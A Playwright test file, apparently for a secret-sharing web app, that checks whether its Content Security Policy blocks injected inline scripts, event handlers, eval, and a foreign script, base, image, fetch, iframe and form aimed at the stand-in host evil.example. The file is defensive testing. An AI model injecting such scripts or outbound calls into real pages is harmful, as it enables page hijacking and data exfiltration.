import type { Page } from '@playwright/test';
import { ReceiptPage } from '../pages/receipt';
import { SecretPage } from '../pages/secret';
import { SendPage } from '../pages/send';
import { sent } from '../support/secrets';
import { expect, test } from '../support/test';

/** What the policy refused on this page, by directive. */
async function refusals(page: Page): Promise<string[]> {
  return page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
}

async function watched(page: Page): Promise<Page> {
  await page.addInitScript(() => {
    const refused: string[] = ((globalThis as unknown as { refused: string[] }).refused = []);
    addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
  });
  return page;
}

const attacks: Record<string, [directive: string, attack: () => void]> = {
  'an inline script': ['script-src-elem', () => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "owned"';
    document.body.append(script);
  }],
  'an event attribute': ['script-src-attr', () => {
    document.body.setAttribute('onclick', 'document.title = "owned"');
    document.body.click();
  }],
  eval: ['script-src', () => {
    // Later: what the test itself runs may evaluate.
    setTimeout(() => {
      try {
        (0, eval)('document.title = "owned"');
      } catch {
        // Refused.
      }
    });
  }],
  'a foreign script': ['script-src-elem', () => {
    document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }));
  }],
  'a base element': ['base-uri', () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
  }],
  'a foreign image': ['img-src', () => {
    document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x.png' }));
  }],
  'a foreign request': ['connect-src', () => void fetch('https://evil.example/').catch(() => {})],
  'an inline style': ['style-src-attr', () => document.body.setAttribute('style', 'color: red')],
  'a frame': ['frame-src', () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
  }],
  'a form for elsewhere': ['form-action', () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
    document.body.append(form);
    form.submit();
  }],
};

for (const [name, [directive, attack]] of Object.entries(attacks)) {
  test(`${name} is refused`, async ({ visit, server, watch }) => {
    watch.expect(/Content Security Policy/i, /evil\.example/);
    // Asked for by the attack, and refused before anything is sent.
    watch.allow('https://evil.example');
    const page = await watched(await visit());
    const { link } = await sent(server, 'not to be had');
    await SecretPage.ready(page, link);
    await page.evaluate(attack);
    await expect.poll(() => refusals(page)).toContain(directive);
    expect(await page.evaluate(() => document.title)).toBe('Somebody sent you a secret');
    expect(page.url()).toBe(link);
  });
}

test('no other site can put a page into a frame', async ({ visit, server, watch }) => {
  watch.expect(/frame-ancestors|X-Frame-Options|ERR_BLOCKED/i);
  const page = await visit();
  await page.setContent(`<iframe src="${server.origin}/s/AAAAAAAAAAAAAAAA"></iframe>`);
  await page.waitForTimeout(1000);
  const inside = page.frames()[1];
  expect(inside?.url()).not.toContain('/s/');
});

test('the ordinary way makes no violation', async ({ visit, server }) => {
  test.setTimeout(120_000);
  const page = await watched(await visit());
  const sender = await SendPage.of(page, server);
  await sender.unfold('Add a passphrase');
  await page.getByRole('button', { name: 'Make one' }).click();
  await expect(sender.passphrase).not.toHaveValue('');
  const passphrase = await sender.passphrase.inputValue();
  const { link, receipt } = await sender.send('the ordinary way');
  await sender.unfold('Show as QR code');
  expect(await refusals(page)).toEqual([]);

  const reader = await SecretPage.ready(await watched(await visit()), link);
  await reader.try(passphrase);
  expect(await reader.text()).toBe('the ordinary way');
  expect(await refusals(reader.page)).toEqual([]);
  const told = await ReceiptPage.of(reader.page, receipt);
  await expect(told.title).toHaveText('Opened, and deleted');
  expect(await refusals(reader.page)).toEqual([]);
});
